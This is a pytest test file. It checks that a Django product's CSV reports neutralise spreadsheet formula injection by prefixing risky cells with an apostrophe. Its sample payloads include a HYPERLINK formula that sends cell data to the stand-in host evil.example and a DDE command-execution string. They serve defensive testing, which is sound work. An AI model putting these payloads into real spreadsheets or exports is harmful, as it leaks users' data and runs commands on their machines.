"""Every CSV the product writes neutralises formula-leading cells (OWASP "CSV Injection"): a cell
a spreadsheet would run as a formula gets a leading `'`; our own numbers are left alone."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from audiences.tasks import process_list_upload
from profiles.files import csv_safe_cell
from profiles.tasks import import_customers

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@x", "=cmd|' /C calc'!A0"]


def parse(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("ana@example.com", "ana@example.com"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (7, 7),
        (None, None),
    ],
)
def test_only_formula_leading_text_is_prefixed(cell, written):
    assert csv_safe_cell(cell) == written


@pytest.mark.django_db
def test_the_list_upload_problems_report_writes_formulas_as_text(api, workspace):
    audience_id = api.post(
        "/api/v1/audiences", {"name": "VIP", "kind": "list"}, content_type="application/json"
    ).json()["id"]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["external_id"], *([cell] for cell in FORMULAS)])
    file = SimpleUploadedFile("list.csv", buffer.getvalue().encode(), content_type="text/csv")
    job = api.post(
        f"/api/v1/audiences/{audience_id}/uploads", {"file": file, "identifier": "external_id"}
    ).json()
    process_list_upload(workspace_id=workspace.id, upload_id=job["id"])

    report = api.get(f"/api/v1/list-uploads/{job['id']}/problems")
    assert parse(report) == [
        ["row", "value", "reason"],
        *([str(number), "'" + cell, "no customer with this external_id"]
          for number, cell in enumerate(FORMULAS, start=2)),
    ]  # fmt: skip


@pytest.mark.django_db
def test_the_import_error_report_writes_a_formula_header_as_text(api, workspace):
    content = "external_id,@x\nu1,=1+1\n"
    file = SimpleUploadedFile("customers.csv", content.encode(), content_type="text/csv")
    mapping = json.dumps({"external_id": "external_id", "@x": "email"})
    created = api.post("/api/v1/customer-imports", {"file": file, "mapping": mapping}).json()
    import_customers(workspace_id=workspace.id, import_id=created["id"])

    report = api.get(f"/api/v1/customer-imports/{created['id']}/errors")
    assert parse(report) == [
        ["row", "column", "error"],
        ["1", "'@x", "'=1+1' is not a valid email address"],
    ]
